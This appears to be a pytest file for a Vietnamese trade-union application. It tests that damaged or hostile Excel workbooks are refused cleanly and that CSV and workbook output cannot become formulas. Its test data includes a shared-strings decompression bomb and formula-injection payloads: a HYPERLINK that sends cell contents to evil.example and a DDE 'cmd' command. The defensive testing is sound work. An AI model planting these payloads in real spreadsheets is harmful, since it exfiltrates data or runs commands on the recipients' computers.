"""Workbooks someone sent (issue 14, items 5, 6, 7, 12).

A real template — the unit's fill template or the federation's roster — is
damaged the way a broken or hostile file is: a cell of the wrong type, a
shared-string index out of range, NaN and infinity, impossible cell
references, no ``<dimension>`` or one claiming a million rows, megabytes of
whitespace, a shared-strings part that unpacks to far more than it weighs.
Every case ends in a message in Vietnamese (never a traceback) and leaves the
database as it was. Then what the application writes into workbooks and CSV
files: text that would start a formula stays text.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.core.context import AppContext, open_context
from app.core.errors import UserError
from app.core.i18n import current_language, set_language
from app.core.text import inert_csv
from app.roster.template import write_roster_template
from app.roster.workbook_import import import_roster
from app.setup.first_run import initialize
from app.unit.filling import fill_from_workbook, write_template
from db.enums import Role, Sector, UnitKind
from tests import digest

PLAN = "tuyen-quang-2017"


@pytest.fixture
def federation_ctx(tmp_path: Path) -> Iterator[AppContext]:
    ctx = open_context(tmp_path / "federation.db")
    with ctx.unit_of_work() as session:
        initialize(session, role=Role.FEDERATION, name="LĐLĐ tỉnh Tuyên Quang")
    yield ctx
    ctx.close()


# --- damaging a workbook ------------------------------------------------------------------------

Mutation = Callable[[dict[str, bytes], str], None]  # (parts, the cell to damage)


def _sheet(parts: dict[str, bytes]) -> str:
    return parts["xl/worksheets/sheet1.xml"].decode("utf-8")


def _set_sheet(parts: dict[str, bytes], xml: str) -> None:
    parts["xl/worksheets/sheet1.xml"] = xml.encode("utf-8")


def replace_cell(element: str) -> Mutation:
    """Put ``element`` (with ``{ref}`` for the cell's reference) in place of a cell."""

    def mutate(parts: dict[str, bytes], ref: str) -> None:
        xml = _sheet(parts)
        pattern = re.compile(rf'<c r="{ref}"(?:[^>]*/>|[^>]*>.*?</c>)', re.S)
        assert pattern.search(xml), ref
        _set_sheet(parts, pattern.sub(element.format(ref=ref), xml, count=1))

    return mutate


def without_dimension(parts: dict[str, bytes], _ref: str) -> None:
    _set_sheet(parts, re.sub(r"<dimension [^>]*/>", "", _sheet(parts)))


def huge_dimension(parts: dict[str, bytes], _ref: str) -> None:
    _set_sheet(
        parts, re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"', _sheet(parts))
    )


def whitespace(parts: dict[str, bytes], _ref: str) -> None:
    _set_sheet(parts, _sheet(parts).replace("<sheetData>", "<sheetData>" + " " * 2_000_000, 1))


def far_down(parts: dict[str, bytes], _ref: str) -> None:
    row = '<row r="1000000"><c r="A1000000" t="inlineStr"><is><t>x</t></is></c></row>'
    _set_sheet(parts, _sheet(parts).replace("</sheetData>", row + "</sheetData>", 1))


def many_rows(parts: dict[str, bytes], _ref: str) -> None:
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>X{n}</t></is></c></row>'
        for n in range(1000, 31_000)
    )
    _set_sheet(parts, _sheet(parts).replace("</sheetData>", rows + "</sheetData>", 1))


def shared_strings_bomb(parts: dict[str, bytes], _ref: str) -> None:
    body = "<si><t>a</t></si>" * 1_100_000  # 18 MB unpacked, a few KB packed
    parts["xl/sharedStrings.xml"] = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"{body}</sst>"
    ).encode()


def many_parts(parts: dict[str, bytes], _ref: str) -> None:
    for n in range(400):
        parts[f"xl/media/image{n}.bin"] = b"x"


def broken_xml(parts: dict[str, bytes], _ref: str) -> None:
    _set_sheet(parts, _sheet(parts).replace("</sheetData>", "<row", 1))


MUTATIONS = [
    pytest.param(replace_cell('<c r="{ref}" t="n"><v>abc</v></c>'), id="number-cell-holding-text"),
    pytest.param(
        replace_cell('<c r="{ref}" t="s"><v>99999</v></c>'), id="shared-string-out-of-range"
    ),
    pytest.param(replace_cell('<c r="{ref}" t="s"><v>-1</v></c>'), id="shared-string-negative"),
    pytest.param(replace_cell('<c r="{ref}"><v>NaN</v></c>'), id="nan"),
    pytest.param(replace_cell('<c r="{ref}"><v>INF</v></c>'), id="infinity"),
    pytest.param(replace_cell('<c r="{ref}"><v>-inf</v></c>'), id="minus-infinity"),
    pytest.param(replace_cell('<c r="{ref}"><v>1e999</v></c>'), id="overflowing-number"),
    pytest.param(replace_cell('<c r="{ref}" t="b"><v>7</v></c>'), id="boolean-seven"),
    pytest.param(replace_cell('<c r="{ref}" t="d"><v>not a date</v></c>'), id="bad-iso-date"),
    pytest.param(replace_cell('<c r="{ref}" t="e"><v>#DIV/0!</v></c>'), id="error-cell"),
    pytest.param(replace_cell('<c r="ZZZZZZZZ1"><v>1</v></c>'), id="reference-beyond-columns"),
    pytest.param(replace_cell('<c r="5A"><v>1</v></c>'), id="reference-back-to-front"),
    pytest.param(replace_cell('<c r="A0"><v>1</v></c>'), id="row-zero"),
    pytest.param(
        replace_cell('<c r="{ref}" t="inlineStr"><is><t>a\x01b</t></is></c>'), id="control-char"
    ),
    pytest.param(without_dimension, id="no-dimension"),
    pytest.param(huge_dimension, id="million-row-dimension"),
    pytest.param(whitespace, id="two-megabytes-of-whitespace"),
    pytest.param(far_down, id="cell-at-row-a-million"),
    pytest.param(many_rows, id="thirty-thousand-rows"),
    pytest.param(shared_strings_bomb, id="shared-strings-bomb"),
    pytest.param(many_parts, id="four-hundred-parts"),
    pytest.param(broken_xml, id="broken-xml"),
]


def damage(path: Path, mutate: Mutation, ref: str) -> None:
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    mutate(parts, ref)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    path.write_bytes(buffer.getvalue())


#: Damage a reader may survive: the cells it needs are still there (a missing or
#: wrong <dimension> is common in files other programs write). Read as if whole,
#: or refused with a message; never anything else.
READABLE = {"row-zero", "no-dimension", "million-row-dimension", "two-megabytes-of-whitespace"}


def refused_in_vietnamese(call: Callable[[], object], *, may_succeed: bool = False) -> str:
    """``call`` fails with a user error; its text in Vietnamese (never a traceback),
    with its row errors. "" when it succeeded and ``may_succeed``."""
    before = current_language()
    set_language("vi")
    try:
        try:
            call()
        except UserError as error:
            text = error.translated()
            assert text != error.message, "translated, not the English msgid"
            for row_error in getattr(error, "errors", []):
                text += f" | {row_error.row}: {row_error.translated()}"
            return text
        assert may_succeed, "the damaged workbook was taken as it is"
        return ""
    finally:
        set_language(before)


def _database_digest(ctx: AppContext) -> str:
    return digest.combine(digest.table_digests(ctx.engine), exclude=frozenset({"audit_log"}))


@pytest.mark.parametrize("mutate", MUTATIONS)
def test_a_damaged_fill_template_is_refused_with_nothing_changed(
    unit_ctx: AppContext, tmp_path: Path, mutate: Mutation, request: pytest.FixtureRequest
) -> None:
    path = write_template(unit_ctx, plan_id=PLAN, stream="registration", out=tmp_path / "t.xlsx")
    damage(path, mutate, "A5")
    before = _database_digest(unit_ctx)
    message = refused_in_vietnamese(
        lambda: fill_from_workbook(unit_ctx, path=path, plan_id=PLAN),
        may_succeed=request.node.callspec.id in READABLE,
    )
    if message:
        assert _database_digest(unit_ctx) == before


@pytest.mark.parametrize("mutate", MUTATIONS)
def test_a_damaged_roster_is_refused_with_nothing_changed(
    federation_ctx: AppContext, tmp_path: Path, mutate: Mutation, request: pytest.FixtureRequest
) -> None:
    path = tmp_path / "roster.xlsx"
    write_roster_template(path)
    damage(path, mutate, "A2")
    before = _database_digest(federation_ctx)

    def run() -> None:
        with federation_ctx.unit_of_work() as session:
            import_roster(session, path=path, year=2017)

    message = refused_in_vietnamese(run, may_succeed=request.node.callspec.id in READABLE)
    if message:
        assert _database_digest(federation_ctx) == before


def test_infinity_is_reported_with_its_row_and_column(unit_ctx: AppContext, tmp_path: Path) -> None:
    path = write_template(unit_ctx, plan_id=PLAN, stream="registration", out=tmp_path / "t.xlsx")
    # openpyxl reads "NaN" as a damaged file; a number beyond range reads as infinity.
    damage(path, replace_cell('<c r="{ref}"><v>1e999</v></c>'), "E5")
    text = refused_in_vietnamese(lambda: fill_from_workbook(unit_ctx, path=path, plan_id=PLAN))
    assert "5 (Số lượng / số tiền): ô không chứa số hợp lệ" in text


def test_a_date_in_the_roster_code_column_is_not_taken_as_a_code(
    federation_ctx: AppContext, tmp_path: Path
) -> None:
    """Excel turns "1-2" into 2 January: before, the date became the unit's code."""
    path = tmp_path / "roster.xlsx"
    write_roster_template(path)
    workbook = load_workbook(path)
    workbook.worksheets[0]["A2"] = dt.datetime(2017, 1, 2)
    workbook.save(path)

    def run() -> None:
        with federation_ctx.unit_of_work() as session:
            import_roster(session, path=path, year=2017)

    text = refused_in_vietnamese(run)
    assert "ô ghi ngày tháng trong khi cần ghi chữ" in text


# --- what we write is data, never a formula ------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\uff1d1+1",  # full-width equals sign
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_unit_name_or_note_never_becomes_a_formula_in_the_template(
    tmp_path: Path, text: str
) -> None:
    """A roster name reached the unit through the plan package and became a live
    formula in its template; a filled note did too."""
    ctx = open_context(tmp_path / "unit.db")
    try:
        with ctx.unit_of_work() as session:
            initialize(
                session,
                role=Role.UNIT,
                name=text,
                code="CS-0001",
                kind=UnitKind.GRASSROOTS,
                sector=Sector.NON_STATE_ENTERPRISE,
            )
        from app.core import domain
        from app.unit import workspace as registration

        registration.set_values(
            ctx,
            plan_id=PLAN,
            stream="registration",
            values={"2.1": domain.UnitValue(amount=30, note=text)},
        )
        path = write_template(ctx, plan_id=PLAN, stream="registration", out=tmp_path / "t.xlsx")
    finally:
        ctx.close()
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet, "no formula element at all"
    cells = [
        cell.value
        for row in load_workbook(path).worksheets[0].iter_rows()
        for cell in row
        if isinstance(cell.value, str) and text in cell.value
    ]
    assert len(cells) >= 2  # the name line and the note, both kept as text


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cells_are_made_inert(text: str) -> None:
    shown = inert_csv(text)
    assert isinstance(shown, str) and shown == "'" + text
    buffer = io.StringIO()
    csv.writer(buffer).writerow([shown, 5, "thường"])
    assert next(csv.reader(io.StringIO(buffer.getvalue())))[0].startswith("'")
    assert inert_csv("Công đoàn") == "Công đoàn" and inert_csv(-5) == -5
